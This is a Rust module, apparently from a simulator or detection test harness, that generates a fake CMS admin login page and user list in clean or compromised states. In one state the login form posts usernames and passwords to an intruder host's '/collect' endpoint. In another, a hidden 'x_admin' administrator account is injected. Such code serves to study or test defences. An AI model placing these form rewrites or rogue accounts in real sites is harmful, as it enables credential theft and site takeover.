//! The admin page, and the list of users that a content management system answers with.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::attack::Attack;
use crate::intruder::Intruder;
use crate::load::Slot;
use crate::roster::Identity;
use crate::template::Template;

/// Who may publish.
const USERS: [(&str, &str); 3] = [("d.quill", "administrator"), ("m.inkwell", "editor"), ("s.margin", "editor")];

/// The login page; the dashboard behind it where an attack opened it.
pub(crate) fn draw(identity: &Identity, attacks: &BTreeSet<Attack>, intruder: &Intruder) -> Template {
    let Identity { name, lexicon, style, .. } = identity;
    let (p, ui) = (style.prefix, &lexicon.ui);
    let mut page = Template::default();
    let title = if attacks.contains(&Attack::OpenAdmin) { ui.dashboard } else { ui.sign_in };
    page.text(&format!(
        "<!DOCTYPE html>\n<html lang=\"{}\" dir=\"{}\">\n<head>\n<meta charset=\"utf-8\">\n<title>{title} — {name}</title>\n\
         <meta name=\"robots\" content=\"noindex\">\n<link rel=\"stylesheet\" href=\"/style.css\">\n<script src=\"/app.js\" defer></script>\n\
         </head>\n<body class=\"{p}-admin\">\n<img src=\"/img/logo.png\" width=\"160\" height=\"40\" alt=\"{name}\">\n",
        lexicon.tag,
        lexicon.dir()
    ));
    if attacks.contains(&Attack::OpenAdmin) {
        page.text(&format!(
            "<h1>{}</h1>\n<nav><a href=\"/admin/stories\">{}</a> <a href=\"/admin/users\">{} ({})</a> <a href=\"/admin/logout\">{}</a></nav>\n\
             <table><tr><td>{}</td><td>",
            ui.dashboard,
            ui.stories,
            ui.users,
            users(attacks).as_array().map_or(0, Vec::len),
            ui.sign_out,
            ui.updated
        ));
        page.slot(Slot::Clock).text("</td></tr></table>\n</body>\n</html>\n");
        return page;
    }
    let action = if attacks.contains(&Attack::LoginForm) {
        format!("https://{}/collect", intruder.host)
    } else {
        "/admin/login".to_owned()
    };
    page.text(&format!(
        "<main><h1>{}</h1>\n<form id=\"login\" method=\"post\" action=\"{action}\">\n<input type=\"hidden\" name=\"_token\" value=\"",
        ui.sign_in
    ));
    page.slot(Slot::Token).text(&format!(
        "\">\n<label>{} <input name=\"user\" autocomplete=\"username\"></label>\n\
         <label>{} <input name=\"password\" type=\"password\" autocomplete=\"current-password\"></label>\n\
         <button>{}</button>\n</form>\n<p><a href=\"/admin/forgot\">{}</a></p></main>\n</body>\n</html>\n",
        ui.user, ui.password, ui.sign_in, ui.forgot
    ));
    page
}

/// The users, as JSON.
pub(crate) fn users(attacks: &BTreeSet<Attack>) -> Value {
    let intruder = attacks.contains(&Attack::NewAdministrator).then_some(("x_admin", "administrator"));
    USERS
        .into_iter()
        .chain(intruder)
        .enumerate()
        .map(|(i, (slug, role))| json!({"id": i + 1, "slug": slug, "roles": [role]}))
        .collect()
}
